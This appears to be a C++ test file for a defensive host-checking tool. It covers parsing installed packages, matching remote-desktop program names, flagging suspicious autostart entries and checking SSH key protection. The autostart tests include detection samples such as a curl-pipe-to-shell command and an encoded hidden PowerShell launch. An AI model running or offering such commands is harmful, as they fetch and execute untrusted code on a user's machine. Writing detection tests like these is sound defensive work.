#include <catch2/catch_test_macros.hpp>

#include "checks/probes/installed_programs.hpp"
#include "checks/probes/ssh_keys.hpp"
#include "checks/probes/start_entries.hpp"

using namespace amparo;
using namespace amparo::checks;

TEST_CASE("installed packages are read from dpkg's list, and removed ones are not") {
    const auto programs = parse_dpkg_status("Package: anydesk\nStatus: install ok installed\nVersion: 6.1\n\nPackage: old\nStatus: deinstall ok config-files\nVersion: 1\n\n");
    REQUIRE(programs.has_value());
    REQUIRE(programs->size() == 1);
    CHECK(programs->front().name == "anydesk");
    CHECK(programs->front().version == "6.1");
    CHECK(parse_dpkg_status("Package: anydesk\nStatus: install ok installed\nVer").error().code == Errc::Corrupt);
    CHECK_FALSE(parse_dpkg_status("").has_value());
}

TEST_CASE("patterns of names fit without case, and a name is not found inside another") {
    CHECK(named_like("AnyDesk", "anydesk"));
    CHECK(named_like("rustdesk-1.2.exe", "rustdesk*.exe"));
    CHECK(named_like("x", "*"));
    CHECK_FALSE(named_like("anydesk-viewer-theme", "anydesk"));
    CHECK_FALSE(named_like("keepassxc", "keepass2"));
}

TEST_CASE("commands that start by themselves are strange for a reason, and ordinary ones are not") {
    CHECK(strange_start("/usr/bin/nextcloud --background", System::Linux).empty());
    CHECK(strange_start("/tmp/.x/upd", System::Linux) == "temporary-folder");
    CHECK(strange_start("bash -c \"curl https://example.org/x | sh\"", System::Linux) == "script-from-web");
    CHECK(strange_start("sh -c 'nm-applet --indicator'", System::Linux).empty());
    CHECK(strange_start(R"("C:\Program Files\Steam\steam.exe" -silent)", System::Windows).empty());
    CHECK(strange_start(R"(powershell -w 1 -enc SQBFAFgA)", System::Windows) == "script-from-web");
    CHECK(strange_start(R"(C:\Users\ana\AppData\Local\Temp\a.exe)", System::Windows) == "temporary-folder");
    CHECK(strange_start(R"(C:\Users\ana\AppData\Roaming\svchost.exe)", System::Windows) == "false-name");
    CHECK(strange_start(R"(%windir%\system32\SecurityHealthSystray.exe)", System::Windows).empty());
    CHECK(strange_start(R"(C:\Windows\explorer.exe)", System::Windows).empty());
}

TEST_CASE("a private key says by its front whether it has a passphrase") {
    // Fronts as ssh-keygen writes them; the secret parts are left out, so these open nothing.
    const std::string plain = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==\n-----END OPENSSH PRIVATE KEY-----\n";
    CHECK(looks_like_private_key(plain));
    const auto open = private_key_protection(plain);
    REQUIRE(open.has_value());
    CHECK(*open == KeyProtection::None);
    const auto pem = private_key_protection("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\nAAAA\n-----END RSA PRIVATE KEY-----\n");
    REQUIRE(pem.has_value());
    CHECK(*pem == KeyProtection::Passphrase);
    CHECK_FALSE(private_key_protection(plain.substr(0, 80)).has_value());
    CHECK_FALSE(looks_like_private_key("ssh-ed25519 AAAA ana@laptop"));
}

TEST_CASE("old kinds of public keys are weak") {
    CHECK(is_weak_public_key("ssh-dss AAAA x"));
    CHECK_FALSE(is_weak_public_key("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x"));
    CHECK_FALSE(is_weak_public_key("not a key"));
}
